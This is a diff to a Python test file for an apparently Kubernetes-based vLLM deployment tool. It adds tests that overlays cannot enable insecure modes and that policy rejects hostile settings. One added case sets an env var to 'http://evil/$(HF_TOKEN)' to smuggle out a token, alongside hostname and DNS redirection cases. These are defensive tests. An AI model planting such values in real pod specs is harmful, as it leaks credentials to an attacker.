@@ -56,6 +56,21 @@ def test_a_side_car_is_confined_without_saying_so(resource: Make) -> None:
         }
 
 
+def test_a_config_map_opens_nothing_of_vllm(resource: Make) -> None:
+    overlay = {"spec": {"containers": [{"name": "vllm", "envFrom": [{"configMapRef": {"name": "any"}}]}]}}
+    made = pods(resource(decode={"podTemplate": overlay}))
+    (vllm,) = (pod["spec"]["containers"][0] for pod in made if "envFrom" in pod["spec"]["containers"][0])
+    set_by_itself = {variable["name"]: variable.get("value") for variable in vllm["env"]}
+    assert set_by_itself["VLLM_SERVER_DEV_MODE"] == set_by_itself["VLLM_ALLOW_INSECURE_SERIALIZATION"] == "0"
+    dynamic = resource(
+        model={"source": {"path": "/m"}, "lora": {"dynamicLoading": True}}, decode={"podTemplate": overlay}
+    )
+    values = [
+        v["value"] for p in pods(dynamic) for v in p["spec"]["containers"][0].get("env", ()) if "LORA" in v["name"]
+    ]
+    assert set(values) == {"1"}
+
+
 def test_a_refusal_names_the_value_that_would_allow_it(document: Callable[..., Json]) -> None:
     for name, value in {
         "nfs": "policy.volumeTypes",
@@ -129,6 +144,10 @@ def test_no_policy_allows_folders_of_the_node_in_overlays(volume: str) -> None:
             "env[https_proxy]",
         ),
         ({"hostAliases": [{"ip": "10.6.6.6", "hostnames": ["HuggingFace.co."]}]}, "hostAliases[10.6.6.6]"),
+        (
+            {"containers": [{"name": "vllm", "env": [{"name": "OTEL_URL", "value": "http://evil/$(HF_TOKEN)"}]}]},
+            "env[OTEL_URL]",
+        ),
         ({"dnsConfig": {"nameservers": ["10.6.6.6"]}}, "dnsConfig.nameservers"),
     ],
 )
